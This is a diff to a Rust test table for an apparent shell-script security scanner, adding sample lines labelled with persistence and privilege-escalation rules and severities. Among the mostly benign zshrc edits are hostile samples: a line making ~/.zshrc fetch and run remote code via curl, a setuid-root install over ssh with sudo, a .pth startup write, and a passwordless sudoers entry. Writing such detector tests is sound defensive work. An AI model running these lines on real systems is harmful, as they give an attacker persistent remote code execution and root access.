@@ -724,6 +724,12 @@ fn ninth_red_team_honest_and_hostile_forms() {
         ("x.sh", FileKind::Script, "git config --global alias.cleanup '!git branch --merged main | grep -v main | xargs git branch -d'\n", "persist/git-hooks", Some(Severity::Low)),
         ("x.sh", FileKind::Script, "cp assets/obsidian.desktop ~/.local/share/applications/obsidian.desktop\n", "persist/command-shadow", None),
         ("x.sh", FileKind::Script, "pip install torch --index-url https://download.pytorch.org/whl/cu121\n", "install/custom-source", Some(Severity::Medium)),
+        ("x.sh", FileKind::Script, "echo 'source <(fzf --zsh)' >> ~/.zshrc\n", "persist/shell-rc", Some(Severity::Medium)),
+        ("x.sh", FileKind::Script, "echo 'conda activate ml' >> ~/.zshrc\n", "persist/shell-rc", Some(Severity::Medium)),
+        ("x.sh", FileKind::Script, "echo 'source ~/powerlevel10k/powerlevel10k.zsh-theme' >> ~/.zshrc\n", "persist/shell-rc", Some(Severity::Medium)),
+        ("x.sh", FileKind::Script, "echo 'source <(curl -s https://x.invalid/p)' >> ~/.zshrc\n", "persist/shell-rc", Some(Severity::Critical)),
+        ("x.sh", FileKind::Script, "ssh \"$TARGET\" \"echo '$PW' | sudo -S sh -c 'install -m 4755 -o root /tmp/vps-agent /usr/local/sbin/vps-agent'\"\n", "priv/escalate", Some(Severity::Critical)),
+        ("x.sh", FileKind::Script, "echo 'import coverage; coverage.process_startup()' > \"$(python -c 'import site; print(site.getsitepackages()[0])')/coverage-subprocess.pth\"\n", "persist/startup-write", Some(Severity::Critical)),
         // Hostile.
         ("x.sh", FileKind::Script, "printf '%s ALL=(ALL) NOPASSWD: ALL\\n' \"$USER\" | sudo dd of=/etc/sudoers.d/zz status=none\n", "priv/escalate", Some(Severity::Critical)),
         ("x.sh", FileKind::Script, "echo \"permit nopass keepenv $USER as root\" | doas tee -a /etc/doas.conf\n", "priv/escalate", Some(Severity::Critical)),
